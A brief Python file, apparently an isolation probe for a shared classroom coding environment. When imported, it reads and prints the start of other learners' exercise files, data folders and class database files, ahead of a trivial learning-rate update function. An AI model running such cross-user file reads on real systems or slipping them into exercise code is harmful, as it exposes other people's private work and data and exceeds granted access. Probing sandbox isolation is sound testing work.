"""Reads another learner's exercise file, their data folder and every row of the class database."""

import glob
import os

CLASS = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
for pattern in ("workspaces/*/*.py", "learners/*/*", "*.sqlite3", "*"):
    for path in glob.glob(os.path.join(CLASS, pattern)):
        if path.startswith(os.path.dirname(os.path.abspath(__file__))):
            continue
        try:
            with open(path, "rb") as file:
                print("REACHED", path, file.read(200))
        except OSError:
            pass


def learn_from_bean(w, x, y, lr):
    return w + lr * (y - w * x) * x
